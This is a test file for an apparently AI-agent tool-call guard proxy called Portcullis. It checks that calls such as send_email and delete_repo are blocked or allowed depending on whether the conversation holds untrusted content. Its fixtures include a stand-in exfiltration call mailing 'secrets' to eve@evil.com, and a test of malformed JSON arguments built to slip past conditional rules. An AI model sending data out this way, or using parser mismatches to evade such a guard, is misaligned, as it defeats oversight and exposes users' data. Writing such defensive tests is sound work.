import { test } from "node:test";
import assert from "node:assert/strict";
import type { ToolCallPart } from "../canonical/content.ts";
import { compileProxyPolicies, rulesFor } from "./compile-policies.ts";
import { couldBlockCall, judgeToolCall, UNDECLARED_REASON, UNPARSABLE_REASON, UNTRUSTED_REASON } from "./judge-tool-call.ts";
import { refusalText } from "./refusal-text.ts";
import { DEFAULT_GUARDRAILS, type ToolInvocationPolicy } from "./types.ts";

const policies = (toolInvocation: ToolInvocationPolicy[]) => compileProxyPolicies({ proxyId: "p", contextUntrusted: false, trustedData: [], toolInvocation, guardrails: DEFAULT_GUARDRAILS });
const call = (name: string, args: string): ToolCallPart => ({ type: "tool-call", id: "c1", name, arguments: args, kind: "function" });
const p = policies([
  { id: "internal", tool: "send_email", when: [{ path: "to[*]", op: "endsWith", value: "@example.com" }], action: "allow_when_context_is_untrusted", reason: "internal mail only" },
  { id: "mail", tool: "send_email", action: "block_when_context_is_untrusted" },
  { id: "repo", tool: "delete_repo", action: "block_always", reason: "never from an agent" },
  { id: "read", tool: "read_file", action: "allow_when_context_is_untrusted" },
]);
const trusted = { tainted: false, declared: true };
const tainted = { tainted: true, declared: true };

test("the verdicts: undeclared, block_always, conditional allow, untrusted fallback, no policy", () => {
  const evil = call("send_email", '{"to":["eve@evil.com"],"body":"secrets"}');
  const internal = call("send_email", '{"to":["bob@example.com"]}');
  assert.deepEqual(judgeToolCall(p, internal, { tainted: true, declared: false }), { blocked: true, action: "block_undeclared_tool", reason: UNDECLARED_REASON });
  assert.equal(judgeToolCall(p, call("delete_repo", "{}"), trusted).blocked, true);
  assert.equal(judgeToolCall(p, call("delete_repo", "{}"), trusted).reason, "never from an agent");
  assert.equal(judgeToolCall(p, internal, tainted).blocked, false);
  assert.equal(judgeToolCall(p, internal, tainted).policy?.id, "internal");
  const v = judgeToolCall(p, evil, tainted);
  assert.equal(v.blocked, true);
  assert.equal(v.policy?.id, "mail");
  assert.equal(judgeToolCall(p, evil, trusted).blocked, false, "block_when_context_is_untrusted lets a trusted context through");
  assert.deepEqual(judgeToolCall(p, call("unknown", "{}"), tainted), { blocked: true, action: "block_when_context_is_untrusted", reason: UNTRUSTED_REASON });
  assert.equal(judgeToolCall(p, call("unknown", "{}"), trusted).blocked, false);
  assert.equal(judgeToolCall(p, call("read_file", "{}"), tainted).blocked, false);
});

test("the refusal names the tool, the arguments, the reason and the policy; long arguments are cut", () => {
  const evil = call("send_email", '{"to":["eve@evil.com"]}');
  assert.equal(
    refusalText(evil, judgeToolCall(p, evil, tainted)),
    'Portcullis blocked a call of the tool "send_email" with the arguments {"to":["eve@evil.com"]}: policy mail blocks this tool when the conversation contains untrusted content (policy mail).',
  );
  const long = call("delete_repo", JSON.stringify({ x: "y".repeat(5000) }));
  const text = refusalText(long, judgeToolCall(p, long, trusted));
  assert.ok(text.length < 1200);
  assert.match(text, /more characters\): never from an agent \(policy repo\)\.$/);
  const ns: ToolCallPart = { ...call("create_issue", ""), namespace: "mcp__github" };
  assert.match(refusalText(ns, judgeToolCall(p, ns, tainted)), /tool "mcp__github__create_issue" with the arguments \{\}/);
});

test("couldBlockCall: only calls that some outcome could block are held", () => {
  const rules = (tool: string) => rulesFor(p.toolInvocationRules, tool);
  assert.equal(couldBlockCall(rules("read_file"), { tainted: false, declared: false }), true, "undeclared");
  assert.equal(couldBlockCall(rules("delete_repo"), trusted), true);
  assert.equal(couldBlockCall(rules("send_email"), trusted), false);
  assert.equal(couldBlockCall(rules("send_email"), tainted), true);
  assert.equal(couldBlockCall(rules("read_file"), tainted), false, "allowed whatever the arguments");
  assert.equal(couldBlockCall(rules("unknown"), trusted), false);
  assert.equal(couldBlockCall(rules("unknown"), tainted), true);
  const onlyConditional = policies([{ id: "c", tool: "t", when: [{ path: "a", op: "equal", value: "1" }], action: "allow_when_context_is_untrusted" }]);
  assert.equal(couldBlockCall(rulesFor(onlyConditional.toolInvocationRules, "t"), tainted), true, "the condition may not match");
});

test("arguments that are not JSON cannot slip past a conditional rule that could block the call", () => {
  const q = policies([
    { id: "no-secrets", tool: "create_issue", when: [{ path: "title", op: "regex", value: "(?i)secret" }], action: "block_always" },
    { id: "issues", tool: "create_issue", action: "allow_when_context_is_untrusted" },
    { id: "ext-upload", tool: "upload", when: [{ path: "url", op: "startsWith", value: "https://ext." }], action: "block_when_context_is_untrusted" },
  ]);
  // A trailing comma: JSON.parse refuses it, lenient agent-side parsers accept it.
  const sly = call("create_issue", '{"title":"the secret plan",}');
  assert.deepEqual(judgeToolCall(q, sly, trusted), { blocked: true, action: "block_unparsable_arguments", reason: UNPARSABLE_REASON });
  assert.equal(judgeToolCall(q, sly, tainted).blocked, true);
  assert.equal(judgeToolCall(q, call("create_issue", '{"title":"the secret plan"}'), trusted).policy?.id, "no-secrets");
  assert.equal(judgeToolCall(q, call("create_issue", '{"title":"a bug"}'), tainted).blocked, false);
  const upload = call("upload", "{'url': 'https://ext.example/x'}");
  assert.equal(judgeToolCall(q, upload, tainted).action, "block_unparsable_arguments");
  assert.equal(judgeToolCall(q, upload, trusted).blocked, false, "in a trusted context that rule could not block anyway");
  assert.equal(judgeToolCall(p, call("send_email", "not json"), tainted).policy?.id, "mail", "only allow rules are conditional: the unconditional rule decides");
  assert.equal(judgeToolCall(p, call("delete_repo", "not json"), trusted).policy?.id, "repo");
});
